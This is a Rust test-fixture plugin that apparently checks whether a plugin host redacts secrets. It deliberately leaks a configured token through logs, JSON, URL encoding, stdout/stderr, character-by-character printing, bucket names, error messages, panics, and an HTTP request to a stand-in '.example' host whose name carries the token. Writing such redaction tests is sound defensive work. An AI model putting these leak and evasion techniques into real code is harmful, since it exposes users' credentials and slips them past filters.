//! Tells its secret in every way that a plugin has: the user's name says in which. What a host must not repeat.
//!
//! ```toml
//! secrets = { token = "file:/run/secrets/token" }
//! config = { refuse = true }  # tells it while it refuses its configuration
//! ```

use presence_plugin::http::Request;
use presence_plugin::keyvalue::Bucket;
use presence_plugin::{Context, HookError, HookResult, Session, StatusChange, log};
use serde::Deserialize;

/// `config` and `secrets` in presence.toml.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Config {
    /// The secret.
    pub token: String,
    /// Whether `configure` refuses.
    #[serde(default)]
    pub refuse: bool,
}

/// The plugin.
pub struct Leaky {
    token: String,
}

/// All ways but those that end the guest or the event.
pub const WAYS: [&str; 9] =
    ["message", "field", "json", "url", "stdout", "stderr", "pieces", "bucket", "origin"];

#[presence_plugin::plugin]
impl Leaky {
    fn configure(config: Config) -> Result<Self, String> {
        println!("configured with {}", config.token);
        if config.refuse {
            Err(format!("{} is no good", config.token))
        } else {
            Ok(Leaky { token: config.token })
        }
    }

    fn user_online(&self, ctx: &Context, event: &StatusChange) -> HookResult {
        self.tell(&event.user, ctx)
    }

    fn session_connected(&self, ctx: &Context, event: &Session) -> HookResult {
        self.tell(&event.user, ctx)
    }
}

impl Leaky {
    fn tell(&self, way: &str, ctx: &Context) -> HookResult {
        let token = &self.token;
        match way {
            "message" => log::warn!("the token is {token}"),
            "field" => log::warn!(token = %token, "a field"),
            "json" => log::warn!("as JSON: {}", serde_json::json!({ "token": token })),
            "url" => log::warn!("in a URL: https://x/?token={}", in_url(token)),
            "stdout" => println!("stdout: {token}"),
            "stderr" => eprintln!("stderr: {token}"),
            "pieces" => {
                token.chars().for_each(|character| print!("{character}"));
                println!(" (in pieces)");
            }
            "bucket" => _ = Bucket::new(token.as_str()).get("key"),
            "origin" => _ = Request::get(format!("http://{}.example/", in_host(token))).send(),
            // Then once more as a rejection, so that it ends.
            "retry" if ctx.attempt == 1 => return Err(HookError::retry(format!("not with {token}"))),
            "retry" | "reject" => return Err(HookError::reject(format!("never with {token}"))),
            "panic" => panic!("I can't stand {token}"),
            _ => {}
        }
        Ok(())
    }
}

fn in_url(text: &str) -> String {
    let byte = |byte: u8| match byte {
        b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => char::from(byte).to_string(),
        byte => format!("%{byte:02X}"),
    };
    text.bytes().map(byte).collect()
}

/// What a host name may hold of it: the host knows it as a line of the secret.
fn in_host(text: &str) -> String {
    text.lines().last().unwrap_or_default().to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn knows_each_way() {
        let leaky = Leaky::configure(Config { token: "a/b\nhost".into(), refuse: false }).unwrap();
        for way in WAYS {
            assert_eq!(leaky.tell(way, &Context::default()), Ok(()), "{way}");
        }
        assert!(leaky.tell("reject", &Context::default()).is_err());
        assert_eq!((in_url("a/b"), in_host("a/b\nhost")), ("a%2Fb".to_owned(), "host".to_owned()));
        assert!(Leaky::configure(Config { token: "x".into(), refuse: true }).is_err());
    }
}
